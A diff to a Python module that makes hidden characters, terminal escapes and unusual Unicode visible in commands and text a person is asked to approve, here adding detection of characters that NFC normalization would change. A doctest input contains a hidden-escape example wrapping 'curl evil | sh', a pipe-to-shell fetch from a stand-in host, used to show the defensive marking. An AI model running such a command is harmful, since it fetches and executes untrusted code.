@@ -8,8 +8,9 @@ letters in brackets because many fonts, such as those of phones, have no picture
 There are two forms, each for lines and for one line:
 
 - `revealed` and `revealed_line` are exact. They are for all that a person agrees to: commands, diffs, names, rules.
-  Unusual spaces and private-use characters are marked too, and so is text that looks like a mark. Different texts never
-  look the same, so apply it once, to the text as it came.
+  Unusual spaces and private-use characters are marked too, and so is text that looks like a mark. Of the ways to write
+  one letter, as `é` or as `e` with an accent, only the shortest (NFC) stays. Different texts never look the same, so
+  apply it once, to the text as it came.
 - `safe_lines` and `safe_line` are for text to read: replies, results, notes. Joiners and variation selectors stay where
   emoji and scripts need them, CR LF is a line break, and applying it twice changes nothing.
 """
@@ -17,7 +18,7 @@ There are two forms, each for lines and for one line:
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections.abc import Iterable, Iterator
 
 NEWLINE = "⏎"
 """Stands for a line break in one line."""
@@ -55,6 +56,9 @@ HIDDEN = re.compile(f"[{_set_of(_HIDING)}]")
 """One character that hides, reorders or moves text."""
 _EXACT = re.compile(f"[{_set_of((*_HIDING, *_UNUSUAL))}]|⟨(?=(?:U\\+[0-9A-F]+|DEL|{'|'.join(_NAMES)})⟩)")
 """What the exact form marks: also a bracket that would begin a mark."""
+_NOT_ASCII = re.compile(r"[\x00-\x7f]?[^\x00-\x7f]+")
+"""Characters that normalization may change, with the one before them: it changes no others."""
+_JOINING_HANGUL = re.compile("[\u1161-\u11ff]")
 _COLOURS = re.compile(r"\x1b\[[0-9;:]*m")
 _JOINERS = "\u200c\u200d"
 _SELECTOR = re.compile("[\ufe00-\ufe0f\U000e0100-\U000e01ef]")
@@ -69,8 +73,16 @@ def revealed(text: str) -> str:
     'echo hi ⟨ESC⟩]; curl evil | sh ;⟨BEL⟩'
     >>> revealed("a\\u202eb ⟨U+202E⟩")
     'a⟨U+202E⟩b ⟨U+27E8⟩U+202E⟩'
+    >>> revealed("caf\\u00e9 cafe\\u0301")
+    'café cafe⟨U+0301⟩'
     """
-    return text if _is_plain(text) else _EXACT.sub(lambda found: _mark(found[0]), text)
+    if _is_plain(text):
+        return text
+    marked = set(_recomposed(text))
+    if not marked:
+        return _EXACT.sub(lambda found: _mark(found[0]), text)
+    marked.update(found.start() for found in _EXACT.finditer(text))
+    return "".join(_mark(character) if at in marked else character for at, character in enumerate(text))
 
 
 def revealed_line(text: str) -> str:
@@ -117,6 +129,20 @@ def without_colours(text: str) -> str:
     'docs'
     """
     return _COLOURS.sub("", text) if "\x1b" in text else text
+
+
+def _recomposed(text: str) -> Iterator[int]:
+    """Yield where characters are that normalization (NFC) joins, moves or replaces: another text may look the same."""
+    import unicodedata
+
+    if unicodedata.is_normalized("NFC", text):
+        return
+    for run in _NOT_ASCII.finditer(text):
+        if not unicodedata.is_normalized("NFC", run[0]):
+            for at, character in enumerate(run[0], run.start()):
+                is_mark = unicodedata.category(character)[0] == "M" or _JOINING_HANGUL.match(character)
+                if is_mark or not unicodedata.is_normalized("NFC", character):
+                    yield at
 
 
 def _is_plain(text: str) -> bool:
